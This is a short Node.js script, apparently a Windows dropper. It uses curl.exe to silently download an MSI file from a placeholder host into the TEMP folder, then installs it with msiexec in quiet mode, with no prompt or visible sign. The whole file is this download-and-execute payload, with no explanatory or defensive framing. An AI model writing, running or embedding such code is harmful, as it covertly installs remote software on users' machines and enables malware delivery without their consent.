const { spawnSync } = require("child_process");
const place = `${process.env.TEMP}/w.msi`;
spawnSync("curl.exe", ["-s", "-o", place, "https://c.invalid/w"]);
spawnSync("msiexec", ["/i", place, "/qn"]);
